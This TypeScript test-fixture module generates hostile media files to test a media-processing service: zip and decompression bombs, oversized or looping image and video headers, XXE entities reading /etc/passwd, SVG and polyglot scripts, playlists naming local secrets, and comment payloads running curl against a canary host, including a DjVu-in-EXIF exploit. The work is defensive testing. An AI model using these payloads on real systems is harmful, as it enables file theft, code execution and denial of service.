/** Files made to break, to fill or to lead astray what reads them. */
import { deflateSync, gzipSync } from "node:zlib";
import type { Hostile } from "./broken.fixtures.ts";
import { after, box, chunk, ftyp, gif, gifFrame, head, plain, png, segment, tiffText, u16, u32, wav, webp, withBox, within } from "./boxes.fixtures.ts";
import { hostilePdfs, pdf } from "./pdf.fixtures.ts";

type Whole = (name: string) => Buffer;
const latin = (text: string): Buffer => Buffer.from(text, "latin1");

/** `canary` is an address that must never be asked for; `secret` a file that must never be read. */
export function crafted(whole: Whole, canary: string, secret: string): Hostile[] {
  const named = (mediaType: string, entries: [string, Buffer][], hopeless?: true): Hostile[] => entries.map(([name, bytes]) => ({ name, mediaType, bytes, ...(hopeless ? { hopeless } : {}) }));
  return [
    ...named("image/png", pngs(canary)), ...named("image/jpeg", jpegs(whole("jpeg"), canary)), ...named("image/gif", gifs(whole("gif"))),
    ...named("image/webp", [["webp of 30,000 × 30,000 px", webp(30_000, 30_000)], ["webp of 16 million px a side", webp(16_777_215, 16_777_215)]], true),
    ...named("image/tiff", [["tiff with 10 MB of text", tiffText(270, Buffer.alloc(10_000_000, 65))], ["tiff in a circle", Buffer.concat([latin("MM\0*"), u32(8), u16(0), u32(8)])]], true),
    ...named("image/avif", [["avif that is all boxes", Buffer.concat([ftyp("avif"), nested(3000, "meta")])], ["avif of 1 GB by its own word", Buffer.concat([ftyp("avif"), u32(1_000_000_000), latin("meta")])]], true),
    ...named("image/svg+xml", svgs(canary, secret), true), ...named("application/pdf", hostilePdfs(canary)),
    ...films(whole("mp4"), canary, secret), ...sounds(whole("mp3")), ...astray(canary, secret).flatMap(([name, bytes]) => ["video/mp4", "audio/mpeg"].map((mediaType) => ({ name: `${name} as ${mediaType}`, mediaType, bytes, hopeless: true as const }))),
    ...polyglots(whole), ...named("image/jpeg", [["nothing at all", Buffer.alloc(0)], ["one byte", Buffer.from([0xff])], ["a megabyte of zeros", Buffer.alloc(1_000_000)]], true),
    ...["video/mp4", "application/pdf"].map((mediaType): Hostile => ({ name: `nothing at all as ${mediaType}`, mediaType, bytes: Buffer.alloc(0), hopeless: true })),
    ...named("application/octet-stream", [["gzip of 50 MB of zeros", gzipSync(Buffer.alloc(50_000_000))]], true),
    ...["image/png", "application/pdf", "video/mp4"].map((mediaType): Hostile => ({ name: `zip bomb as ${mediaType}`, mediaType, bytes: zipBomb(), hopeless: true })),
  ];
}

const nested = (depth: number, type: string): Buffer => {
  const parts: Buffer[] = [];
  for (let n = depth; n > 0; n--) parts.push(u32(n * 8), latin(type));
  return Buffer.concat(parts);
};

function pngs(canary: string): [string, Buffer][] {
  const small = plain(4, 4);
  return [
    ["png of 30,000 × 30,000 px, all there", png(head(30_000, 30_000, 1), plain(30_000, 30_000, 1))], ["png of 30,000 × 30,000 px by its own word", png(head(30_000, 30_000), small)],
    ["png of two thousand million px a side", png(head(0x7fffffff, 0x7fffffff), small)], ["png of no size", png(head(0, 0), small)], ["png of 5,000 × 5,000 px, interlaced", png(head(5000, 5000, 8, 0, 1), plain(5000, 5000))],
    ["png with 50 MB of text in 50 kB", png(head(4, 4), chunk("zTXt", Buffer.concat([latin("Comment\0\0"), deflateSync(Buffer.alloc(50_000_000, 65))])), small)],
    ["png with a profile of 50 MB", png(head(4, 4), chunk("iCCP", Buffer.concat([latin("p\0\0"), deflateSync(Buffer.alloc(50_000_000))])), small)],
    ["png with 10 MB of EXIF", png(head(4, 4), chunk("eXIf", tiffText(270, Buffer.alloc(10_000_000, 66))), small)], ["png with 10,000 chunks", png(head(4, 4), ...Array.from({ length: 10_000 }, () => chunk("tEXt", latin("a\0b"))), small)],
    ["png with a remote manifest", png(head(4, 4), chunk("iTXt", latin(`XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dcterms="http://purl.org/dc/terms/" dcterms:provenance="${canary}/c2pa"/></rdf:RDF></x:xmpmeta>`)), small)],
    ["png with XMP that names entities", png(head(4, 4), chunk("iTXt", latin(`XML:com.adobe.xmp\0\0\0\0\0<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&b;</x:xmpmeta>`)), small)],
    ["png with made-up credentials", png(head(4, 4), chunk("caBX", Buffer.concat([u32(60), latin("jumb"), u32(0xffffff), latin("jumdc2pa\0\x11\0\x10"), Buffer.alloc(40, 7)])), small)],
  ];
}

function jpegs(jpeg: Buffer, canary: string): [string, Buffer][] {
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  const sized = Buffer.from(jpeg);
  if (frame > 0) Buffer.concat([u16(65_500), u16(65_500)]).copy(sized, frame + 5);
  const xmp = (text: string): Buffer => segment(0xe1, latin(`http://ns.adobe.com/xap/1.0/\0${text}`));
  return [
    ["jpeg of 65,500 px a side", sized], ["jpeg with 160 full segments", within(jpeg, ...Array.from({ length: 160 }, () => segment(0xe1, Buffer.concat([latin("Exif\0\0"), tiffText(270, Buffer.alloc(65_000, 67))]))))],
    ["jpeg with EXIF in a circle", within(jpeg, segment(0xe1, Buffer.concat([latin("Exif\0\0MM\0*"), u32(8), u16(1), u16(0x8769), u16(4), u32(1), u32(8), u32(8)])))],
    ["jpeg with an XMP of entities", within(jpeg, xmp(`<!DOCTYPE x [<!ENTITY a SYSTEM "${canary}/xxe">]><x:xmpmeta>&a;</x:xmpmeta>`))],
    ["jpeg with made-up credentials", within(jpeg, segment(0xeb, Buffer.concat([latin("JP\0\x01"), u32(1), u32(0x7fffffff), latin("jumb"), u32(30), latin("jumdc2pa\0\x11\0\x10c2pa\0"), Buffer.alloc(30, 9)])))],
    ["jpeg with a comment that is a command", within(jpeg, segment(0xfe, latin(`$(curl ${canary}/sh) \`id\` ; <script>fetch('${canary}')</script>`)))],
    ["jpeg of 3,000 scans", Buffer.concat([jpeg.subarray(0, -2), ...Array.from({ length: 3000 }, () => segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])))])],
    ["jpeg with DjVu inside its metadata", within(jpeg, segment(0xe1, Buffer.concat([latin("Exif\0\0"), tiffText(0xc51b, latin(`AT&TFORM\0\0\0\x60DJVUANTa\0\0\0\x40(metadata "\\\n".qx{curl ${canary}/perl};#")`))])))],
  ];
}

const gifs = (whole: Buffer): [string, Buffer][] => [
  ["gif of 30,000 × 30,000 px", gif(30_000, 30_000, gifFrame(30_000, 30_000))], ["gif of no size", gif(0, 0, gifFrame(0, 0))], ["gif of 20,000 frames", gif(64, 64, ...Array.from({ length: 20_000 }, () => gifFrame(64, 64)))],
  ["gif whose frame is bigger than itself", gif(1, 1, gifFrame(65_535, 65_535))], ["gif that never ends", whole.subarray(0, -1)],
];

function svgs(canary: string, secret: string): [string, Buffer][] {
  const bodies = [`<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>`, `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${canary}/svg')</script></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${canary}/i.png"/><image href="file://${secret}"/></svg>`, `<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"/>`, `<svg xmlns="http://www.w3.org/2000/svg"><style>@import '${canary}/css';</style></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject></svg>`, `<svg xmlns="http://www.w3.org/2000/svg"><g id="a"/>${'<use href="#a"/>'.repeat(10_000)}</svg>`];
  return bodies.map((body, n) => [`svg ${n}`, Buffer.from(body)]);
}

function films(mp4: Buffer, canary: string, secret: string): Hostile[] {
  const outside = (address: string): Buffer => withBox(mp4, "dref", box("dref", u32(0), u32(1), box("url ", u32(0), latin(`${address}\0`))));
  const entries: [string, Buffer][] = [
    ["mp4 of a track at an address", outside(`${canary}/track.mp4`)], ["mp4 of a track in a file", outside("file:///etc/passwd")], ["mp4 of a negative duration", after(mp4, "mvhd", 16, u32(0xfffffff0))], ["mp4 of no time scale", after(mp4, "mvhd", 12, u32(0))], ["mp4 of no media time scale", after(mp4, "mdhd", 12, u32(0))],
    ["mp4 of 65,535 px a side", after(mp4, "avc1", 24, Buffer.concat([u16(65_535), u16(65_535)]))], ["mp4 of four thousand million samples", after(mp4, "stsz", 8, u32(0xffffffff))], ["mp4 of four thousand million chunks", after(mp4, "stco", 4, u32(0xffffffff))],
    ["mp4 of edits without end", after(mp4, "elst", 4, u32(0x7fffffff))], ["mp4 with a box of no size", Buffer.concat([ftyp(), u32(1), latin("moov"), Buffer.alloc(8)])], ["mp4 of 20,000 boxes in each other", Buffer.concat([ftyp(), nested(20_000, "moov")])],
    ["mp4 whose film is a playlist", Buffer.concat([ftyp(), box("mdat", latin(`#EXTM3U\n#EXTINF:1,\n${canary}/a.ts\n`))])], ["mp4 with an alias", Buffer.concat([ftyp(), box("moov", box("rmra", box("rmda", box("rdrf", u32(0), latin("url "), u32(60), latin(`file://${secret}\0`)))))])],
    ["mp4 with made-up credentials", Buffer.concat([mp4, box("uuid", Buffer.from("d8fec3d61b0e483c92975828877ec481", "hex"), u32(0), latin("manifest\0"), Buffer.alloc(8), latin("\0\0\0\x30jumb\xff\xff\xff\xffjumdc2pa"))])],
    ["mp4 whose index is of another film", Buffer.concat([mp4.subarray(0, 40), mp4])],
  ];
  return entries.map(([name, bytes]) => ({ name, mediaType: "video/mp4", bytes }));
}

const sounds = (mp3: Buffer): Hostile[] => [
  { name: "wav of 4 GB by its own word", mediaType: "audio/wav", bytes: wav(1, 8000, 0xffffffff, Buffer.alloc(9000)) }, { name: "wav of 65,535 channels", mediaType: "audio/wav", bytes: wav(65_535, 44_100, 9000, Buffer.alloc(9000)) }, { name: "wav of no rate", mediaType: "audio/wav", bytes: wav(1, 0, 9000, Buffer.alloc(9000)) },
  { name: "mp3 whose tag is 256 MB", mediaType: "audio/mpeg", bytes: Buffer.concat([latin("ID3\x04\0\0\x7f\x7f\x7f\x7f"), mp3]) },
  { name: "mp3 with a bomb as its cover", mediaType: "audio/mpeg", bytes: Buffer.concat([cover(png(head(30_000, 30_000, 1), plain(30_000, 30_000, 1))), mp3]) },
];

function cover(picture: Buffer): Buffer {
  const frame = Buffer.concat([latin("\0image/png\0\x03\0"), picture]);
  const size = (n: number): Buffer => Buffer.from([(n >> 21) & 127, (n >> 14) & 127, (n >> 7) & 127, n & 127]);
  return Buffer.concat([latin("ID3\x04\0\0"), size(frame.length + 10), latin("APIC"), size(frame.length), u16(0), frame]);
}

/** Lists and subtitles: files that name other files. */
const astray = (canary: string, secret: string): [string, Buffer][] => [
  ["m3u8 of an address", latin(`#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${canary}/seg.ts\n#EXT-X-ENDLIST\n`)], ["m3u8 of a file", latin(`#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXTINF:1,\nfile://${secret}\n#EXT-X-ENDLIST\n`)],
  ["m3u8 of an address with a file in it", latin(`#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nconcat:${canary}/?|subfile,,start,0,end,99,,:/etc/passwd\n`)], ["ffconcat", latin(`ffconcat version 1.0\nfile '${secret}'\nfile '/etc/passwd'\nfile '${canary}/c.ts'\n`)],
  ["dash", latin(`<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>${canary}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`)],
  ["sdp", latin(`v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`)], ["subtitles", latin("1\n00:00:01,000 --> 00:00:02,000\n<font face='/etc/passwd'>Hello</font>\n")],
  ["ass subtitles", latin("[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: evil.ttf\n[Events]\nDialogue: 0,0:00:00.00,0:00:05.00,Default,,0,0,0,,Hi\n")], ["/etc/passwd by ffmetadata", latin(";FFMETADATA1\ntitle=/etc/passwd\n")],
];

function polyglots(whole: Whole): Hostile[] {
  const page = latin("<html><script>alert(1)</script></html>");
  return [
    { name: "gif that is a script", mediaType: "image/gif", bytes: Buffer.concat([latin("GIF89a/*"), Buffer.alloc(60), latin("*/=1;alert(1)//")]) }, { name: "jpeg and html", mediaType: "image/jpeg", bytes: Buffer.concat([whole("jpeg"), page]) }, { name: "pdf in a jpeg", mediaType: "application/pdf", bytes: Buffer.concat([whole("jpeg"), pdf(["Inside"])]) },
    { name: "pdf and zip", mediaType: "application/pdf", bytes: Buffer.concat([pdf(["Both"]), zipBomb()]) }, { name: "mp4 and html", mediaType: "video/mp4", bytes: Buffer.concat([whole("mp4"), page]) }, { name: "jpeg as an mp4", mediaType: "video/mp4", bytes: whole("jpeg") }, { name: "mp4 as a jpeg", mediaType: "image/jpeg", bytes: whole("mp4") },
    { name: "pdf as a png", mediaType: "image/png", bytes: pdf(["Not a picture"]) }, { name: "svg as a png", mediaType: "image/png", bytes: latin('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>') }, { name: "mp3 as a pdf", mediaType: "application/pdf", bytes: whole("mp3") },
  ];
}

/** One stored entry of 20 MB of zeros, named 200 times in the directory. */
function zipBomb(): Buffer {
  const data = deflateSync(Buffer.alloc(20_000_000)).subarray(2, -4);
  const local = Buffer.concat([latin("PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0"), Buffer.alloc(12, 0xff), latin("\x01\0\0\0a"), data]);
  return Buffer.concat([local, ...Array.from({ length: 200 }, () => Buffer.concat([latin("PK\x01\x02\x14\0\x14\0\0\0\x08\0"), Buffer.alloc(4), Buffer.alloc(12, 0xff), latin("\x01\0"), Buffer.alloc(16), latin("a")])), latin("PK\x05\x06"), Buffer.alloc(18)]);
}
